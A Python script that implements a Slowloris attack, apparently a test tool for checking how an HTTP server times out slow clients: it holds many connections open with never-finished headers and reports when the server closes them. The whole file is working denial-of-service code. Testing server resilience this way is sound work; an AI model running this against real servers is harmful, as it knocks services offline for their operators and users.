#!/usr/bin/env python3
"""Slowloris against an HTTP server (a netns-tier test tool, not shipped).

  slowloris.py DST_IP DST_PORT CONNECTIONS BYTE_INTERVAL_S LIMIT_S

Opens CONNECTIONS TCP connections, then sends each the next byte of an endless request
header ("GET / HTTP/1.1\\r\\nX-a: b\\r\\n..." never ending in an empty line) every
BYTE_INTERVAL_S seconds. A connection the server closes (EOF or reset, on read or write) is
closed here too and its time noted. Stops when every connection is closed or after LIMIT_S.
Prints one JSON object: opened, closed (by the server), first/last close times in seconds
since the last connection opened, and still_open.
"""
import json
import select
import socket
import sys
import time

HEADER = b"GET / HTTP/1.1\r\nHost: slow\r\n" + b"X-Slow: " + b"a" * 4000


def main(argv):
    if len(argv) != 6:
        print(__doc__.strip(), file=sys.stderr)
        return 2
    dst, port, count = argv[1], int(argv[2]), int(argv[3])
    interval, limit = float(argv[4]), float(argv[5])
    t_start = time.monotonic()
    conns = {}
    for _ in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(5)
        try:
            s.connect((dst, port))
        except OSError as e:
            print(f"slowloris: connect failed after {len(conns)}: {e}", file=sys.stderr)
            s.close()
            break
        s.setblocking(False)
        conns[s.fileno()] = [s, 0]  # socket, bytes of HEADER sent
    opened = len(conns)
    t0 = time.monotonic()
    closes = []
    next_send = t0
    deadline = t_start + limit
    while conns and time.monotonic() < deadline:
        now = time.monotonic()
        if now >= next_send:
            for fd, c in list(conns.items()):
                try:
                    c[0].send(HEADER[c[1] % len(HEADER):][:1])
                    c[1] += 1
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    c[0].close()
                    del conns[fd]
                    closes.append(time.monotonic() - t0)
            next_send = now + interval
        wait = max(0.0, min(next_send, deadline) - time.monotonic())
        readable, _, _ = select.select(list(conns), [], [], min(wait, 0.2)) if conns else ([], [], [])
        for fd in readable:
            c = conns.get(fd)
            if c is None:
                continue
            try:
                data = c[0].recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if data:
                continue  # a response: not expected, but not a close either
            c[0].close()
            del conns[fd]
            closes.append(time.monotonic() - t0)
    for c in conns.values():
        c[0].close()
    print(json.dumps({
        "opened": opened,
        "closed": len(closes),
        "first_close_s": round(min(closes), 2) if closes else None,
        "last_close_s": round(max(closes), 2) if closes else None,
        "open_s": round(t0 - t_start, 2),
        "still_open": len(conns),
    }))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
